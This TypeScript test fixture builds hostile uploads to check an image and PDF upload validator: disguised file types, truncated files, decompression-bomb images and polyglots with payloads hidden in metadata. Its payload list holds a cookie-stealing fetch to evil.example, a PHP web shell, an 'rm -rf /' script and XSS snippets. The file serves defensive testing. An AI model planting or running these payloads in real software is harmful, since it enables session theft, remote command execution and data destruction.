import { crc32 } from 'node:zlib';
import sharp from 'sharp';
import { eicar } from '../clamd.js';
import { goodFiles, type HostileFile, type SentFile } from './good-files.js';
import { largeHeic } from './heic-files.js';
import { hostilePdfs } from './hostile-pdfs.js';

const claims = {
  jpeg: { name: 'scan.jpg', declaredType: 'image/jpeg' },
  png: { name: 'scan.png', declaredType: 'image/png' },
  heic: { name: 'scan.heic', declaredType: 'image/heic' },
  pdf: { name: 'scan.pdf', declaredType: 'application/pdf' },
};
type Kind = keyof typeof claims;
const kinds = Object.keys(claims) as Kind[];

const payloads = {
  html: '<!doctype html><script>alert(1)</script>',
  js: '/*PAYLOAD*/=1;fetch("//evil.example/"+document.cookie)',
  php: '<?php system($_GET["c"]); ?>',
  svg: '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  zip: 'PK\x03\x04\x14\0\0\0\0\0payload.exePK\x05\x06\0\0\0\0\x01\0\x01\0',
  exe: 'MZ\x90\0\x03\0\0\0This program cannot be run in DOS mode',
  gif: 'GIF89a/*payload*/=1;alert(1)//',
  shell: '#!/bin/sh\nrm -rf /',
};

export async function hostileFiles(): Promise<Record<string, HostileFile[]>> {
  const good = await goodFiles();
  return {
    'that are something else': await somethingElse(),
    'that are cut off': kinds.flatMap((kind) =>
      [0, 4, 0.1, 0.4, 0.7, 0.9].map((part) => {
        const { content } = good[kind];
        return {
          ...claims[kind],
          what: `${kind} cut at ${part}`,
          content: content.subarray(0, part < 1 ? content.length * part : part),
        };
      }),
    ),
    'that are too large': bombs(good),
    'that are two things at once': polyglots(good),
    'that are PDFs with something inside': await hostilePdfs(),
    'that a malware scanner knows': [
      { ...claims.jpeg, what: 'EICAR after a photo', content: Buffer.concat([good.jpeg.content, Buffer.from(eicar)]) },
      { ...claims.png, what: 'EICAR after a PNG', content: Buffer.concat([good.png.content, Buffer.from(eicar)]) },
      { ...claims.heic, what: 'EICAR after a HEIC', content: Buffer.concat([good.heic.content, Buffer.from(eicar)]) },
      { ...claims.pdf, what: 'EICAR in a PDF', content: intoPdf(good.pdf.content, eicar) },
      { ...claims.pdf, what: 'EICAR itself', content: Buffer.from(eicar) },
    ],
  };
}

async function somethingElse(): Promise<HostileFile[]> {
  const pixels = sharp({ create: { width: 8, height: 8, channels: 3, background: 'red' } });
  const others: Record<string, Buffer> = {
    ...Object.fromEntries(Object.entries(payloads).map(([name, text]) => [name, Buffer.from(text, 'latin1')])),
    webp: await pixels.clone().webp().toBuffer(),
    tiff: await pixels.clone().tiff().toBuffer(),
    avif: await pixels.clone().avif().toBuffer(),
    movie: Buffer.from('\0\0\0\x18ftypmp42\0\0\0\0mp42isom\0\0\0\x08mdat', 'latin1'),
    elf: Buffer.from('\x7fELF\x02\x01\x01', 'latin1'),
    noise: Buffer.from('\x01\x02\x03\x04'.repeat(100), 'latin1'),
  };
  return Object.entries(others).flatMap(([name, content]) =>
    kinds.map((kind) => ({ ...claims[kind], what: `${name} as ${kind}`, content })),
  );
}

function bombs(good: Record<Kind, SentFile>): HostileFile[] {
  return [
    { ...claims.png, what: 'PNG of 110 megapixels and a line', content: sizedPng(good.png.content, 11_000, 10_001) },
    { ...claims.jpeg, what: 'JPEG of 110 megapixels and a line', content: sizedJpeg(good.jpeg.content, 11_000, 10_001) },
    { ...claims.heic, what: 'HEIC of 110 megapixels and a line', content: largeHeic(11_000, 10_001) },
    { ...claims.png, what: 'PNG that claims 3,600 megapixels', content: sizedPng(good.png.content, 60_000, 60_000) },
    { ...claims.jpeg, what: 'JPEG that claims 4,295 megapixels', content: sizedJpeg(good.jpeg.content, 65_535, 65_535) },
    { ...claims.heic, what: 'HEIC that claims 900 megapixels', content: sizedHeic(good.heic.content, 30_000) },
    ...kinds.map((kind) => ({
      ...claims[kind],
      what: `${kind} of more than 10 MiB`,
      content: Buffer.concat([good[kind].content, Buffer.alloc(10 * 1024 * 1024)]),
    })),
  ];
}

function sizedPng(png: Buffer, width: number, height: number): Buffer {
  const sized = Buffer.from(png);
  sized.writeUInt32BE(width, 16);
  sized.writeUInt32BE(height, 20);
  sized.writeUInt32BE(crc32(sized.subarray(12, 29)), 29);
  return sized;
}

function sizedJpeg(jpeg: Buffer, width: number, height: number): Buffer {
  const sized = Buffer.from(jpeg);
  const frame = sized.indexOf(Buffer.from([0xff, 0xc0]));
  sized.writeUInt16BE(height, frame + 5);
  sized.writeUInt16BE(width, frame + 7);
  return sized;
}

function sizedHeic(heic: Buffer, side: number): Buffer {
  const sized = Buffer.from(heic);
  for (let at = sized.indexOf('ispe'); at > 0; at = sized.indexOf('ispe', at + 1)) {
    sized.writeUInt32BE(side, at + 8);
    sized.writeUInt32BE(side, at + 12);
  }
  return sized;
}

function polyglots(good: Record<Kind, SentFile>): HostileFile[] {
  return Object.entries(payloads).flatMap(([name, payload]) => {
    const bytes = Buffer.from(payload, 'latin1');
    const around = kinds.flatMap((kind) => [
      { ...claims[kind], what: `${name} before ${kind}`, content: Buffer.concat([bytes, good[kind].content]) },
      { ...claims[kind], what: `${name} after ${kind}`, content: Buffer.concat([good[kind].content, bytes]), payload },
    ]);
    const { jpeg, png, pdf } = good;
    return [
      ...around,
      { ...claims.jpeg, what: `${name} in a JPEG's comment`, content: segment(jpeg.content, 0xfe, bytes), payload },
      {
        ...claims.jpeg,
        what: `${name} in EXIF`,
        content: segment(jpeg.content, 0xe1, Buffer.concat([Buffer.from('Exif\0\0'), bytes])),
        payload,
      },
      { ...claims.png, what: `${name} in a PNG's text`, content: textChunk(png.content, bytes), payload },
      { ...claims.pdf, what: `${name} between a PDF's objects`, content: intoPdf(pdf.content, payload), payload },
    ];
  });
}

const segment = (jpeg: Buffer, marker: number, content: Buffer) =>
  Buffer.concat([jpeg.subarray(0, 2), Buffer.from([0xff, marker, 0, content.length + 2]), content, jpeg.subarray(2)]);

function textChunk(png: Buffer, text: Buffer): Buffer {
  const content = Buffer.concat([Buffer.from('tEXtComment\0'), text]);
  const [length, check] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(content.length - 4);
  check.writeUInt32BE(crc32(content));
  return Buffer.concat([png.subarray(0, 33), length, content, check, png.subarray(33)]);
}

/** As a comment behind the header. */
function intoPdf(pdf: Buffer, text: string): Buffer {
  const at = pdf.indexOf('\n') + 1;
  return Buffer.concat([pdf.subarray(0, at), Buffer.from(`%${text.replace(/[\r\n]/g, ' ')}\n`, 'latin1'), pdf.subarray(at)]);
}
